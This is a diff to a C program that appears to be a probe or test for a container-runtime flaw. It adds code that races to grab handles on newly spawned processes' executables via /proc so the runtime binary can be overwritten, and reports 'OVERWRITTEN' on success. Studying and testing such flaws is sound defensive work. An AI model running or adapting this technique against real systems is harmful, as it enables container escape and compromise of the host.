@@ -26,6 +26,9 @@ static int is_harmless(const struct stat *st)
 	return 0;
 }
 
+/* The highest pid that was seen: that of the next process is a little higher. */
+static int newest;
+
 static void hold(const char *pid)
 {
 	char path[300];
@@ -36,11 +39,25 @@ static void hold(const char *pid)
 	fd = open(path, O_PATH | O_CLOEXEC);
 	if (fd < 0)
 		return;
+	if (atoi(pid) > newest)
+		newest = atoi(pid);
 	if (fstat(fd, &st) < 0 || is_harmless(&st) || held_len == 64) {
 		close(fd);
 		return;
 	}
 	held[held_len++] = fd;
+}
+
+/* A process that enters has the executable of the runtime for a moment only. */
+static void hold_next(void)
+{
+	char pid[16];
+
+	for (int round = 0; round < 200; round++)
+		for (int i = 1; i <= 4; i++) {
+			snprintf(pid, sizeof(pid), "%d", newest + i);
+			hold(pid);
+		}
 }
 
 static int try_to_write(int fd)
@@ -76,6 +93,7 @@ int main(int argc, char **argv)
 			if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
 				hold(entry->d_name);
 		closedir(proc);
+		hold_next();
 		for (int i = 0; i < held_len; i++) {
 			if (try_to_write(held[i])) {
 				puts("OVERWRITTEN");
